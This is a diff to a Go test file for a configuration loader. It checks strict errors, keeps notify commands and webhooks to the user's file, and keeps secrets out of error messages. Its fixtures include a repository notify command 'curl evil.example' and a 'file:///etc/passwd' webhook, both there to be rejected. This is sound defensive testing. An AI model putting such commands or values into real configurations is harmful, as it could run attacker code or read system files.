@@ -103,7 +103,7 @@ func TestStrictErrors(t *testing.T) {
 		{"unknown table", "[modles]\ncoder = \"x\"\n", false, []string{"unknown key modles"}},
 		{"bad syntax", "[models\n", false, []string{"config.toml:1"}},
 		{"wrong type", "[implement]\nbudget = \"lots\"\n", false, []string{"config.toml"}},
-		{"bad runner", "[implement]\nrunner = \"jest\"\n", false, []string{"implement.runner", "pytest"}},
+		{"bad runner", "[implement]\nrunner = \"mocha\"\n", false, []string{"implement.runner", "pytest", "vitest"}},
 		{"negative budget", "[implement]\nbudget = -1.0\n", false, []string{"must not be negative"}},
 		{"nan budget", "[implement]\nbudget = nan\n", false, []string{"implement.budget NaN", "finite"}},
 		{"infinite budget", "[implement]\nbudget = inf\n", false, []string{"implement.budget +Inf", "finite"}},
@@ -113,6 +113,10 @@ func TestStrictErrors(t *testing.T) {
 		{"negative move_after", "[engine]\nmove_after = \"-5s\"\n", false, []string{"engine.move_after", "positive"}},
 		{"unknown engine key", "[engine]\nadress = \"x:7233\"\n", false, []string{"unknown key engine.adress"}},
 		{"key in repo", "[providers.anthropic]\napi_key = \"sk-ant-x\"\n", true, []string{"providers.anthropic.api_key", "must not be kept in the repository"}},
+		{"notify command in repo", "[notify]\ncommand = \"curl evil.example\"\n", true, []string{"notify", "user config"}},
+		{"notify webhook in repo", "[notify]\nwebhook = \"https://hooks.example/T0/B0/secret\"\n", true, []string{"notify", "user config"}},
+		{"webhook not a URL", "[notify]\nwebhook = \"hooks.example/T0\"\n", false, []string{"notify.webhook", "http:// or https://"}},
+		{"webhook of another scheme", "[notify]\nwebhook = \"file:///etc/passwd\"\n", false, []string{"notify.webhook", "http:// or https://"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -136,6 +140,37 @@ func TestStrictErrors(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// Notifications are the user's: read from the user's file, kept when the
+// repository has a file too, and a webhook URL (a credential) is never
+// repeated in an error.
+func TestNotifyFromTheUserFile(t *testing.T) {
+	t.Parallel()
+	user, repo := t.TempDir(), t.TempDir()
+	write(t, filepath.Join(user, "azero", "config.toml"), `
+[notify]
+command = "notify-send azero"
+webhook = "https://hooks.example/services/T0/B0/secret-token"
+`)
+	write(t, filepath.Join(repo, ".azero", "config.toml"), "[implement]\nrunner = \"go\"\n")
+	cfg, _, err := config.Load(user, repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := config.Notify{Command: "notify-send azero", Webhook: "https://hooks.example/services/T0/B0/secret-token"}
+	if cfg.Notify != want {
+		t.Errorf("notify = %+v, want %+v", cfg.Notify, want)
+	}
+	for _, body := range []string{
+		"[notify]\nwebhook = \"ftp://hooks.example/secret-token\"\n",
+		"[notify]\nwebhook = 7\n",
+	} {
+		_, err := config.Parse([]byte(body), config.Source{Path: "/cfg/config.toml"})
+		if err == nil || strings.Contains(err.Error(), "secret-token") {
+			t.Errorf("Parse(%q) = %v; want an error that does not repeat the URL", body, err)
+		}
 	}
 }
 
@@ -231,6 +266,8 @@ func TestEveryKeyExplainsItsType(t *testing.T) {
 			leaves = append(leaves, leaf{prefix, "a string"})
 		case reflect.Float64:
 			leaves = append(leaves, leaf{prefix, "a number"})
+		case reflect.Int:
+			leaves = append(leaves, leaf{prefix, "a whole number"})
 		default:
 			t.Fatalf("%s: no test value for %s", prefix, typ)
 		}
@@ -243,7 +280,7 @@ func TestEveryKeyExplainsItsType(t *testing.T) {
 		t.Run(l.key, func(t *testing.T) {
 			t.Parallel()
 			value, got := `"wrong"`, `a string "wrong"`
-			if strings.HasPrefix(l.key, "providers.") {
+			if strings.HasPrefix(l.key, "providers.") || strings.HasPrefix(l.key, "notify.") {
 				got = "a string" // possibly a key: not repeated
 			}
 			if l.kind == "a string" {
